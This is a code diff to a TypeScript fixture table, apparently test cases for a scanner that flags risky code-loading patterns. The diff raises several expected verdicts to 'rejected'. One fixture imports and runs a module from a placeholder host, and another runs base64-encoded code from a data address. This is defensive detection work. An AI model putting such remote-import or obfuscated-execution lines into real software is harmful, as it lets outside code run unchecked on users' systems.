@@ -33,7 +33,7 @@ export const OTHER_WAYS: readonly Row[] = [
   ],
   [
     "a downloaded pickle",
-    "caution",
+    "rejected",
     REMOTE,
     {
       "main.py": lines(
@@ -94,7 +94,7 @@ export const OTHER_WAYS: readonly Row[] = [
   ],
   [
     "a module named by a download",
-    "caution",
+    "rejected",
     REMOTE,
     {
       "main.py": lines(
@@ -144,14 +144,14 @@ export const OTHER_WAYS: readonly Row[] = [
   ],
   [
     "a module from the network in Node",
-    "caution",
+    "rejected",
     REMOTE,
     { "main.mjs": lines("const m = await import('https://x.example/m.mjs');", "m.run();") },
   ],
   [
     "a module in a data address",
     "caution",
-    HIDDEN_RUN,
+    "suspicious.obfuscated_code",
     { "main.mjs": lines("await import('data:text/javascript;base64,Y29uc29sZS5sb2coMTIzNCk=');") },
   ],
   [
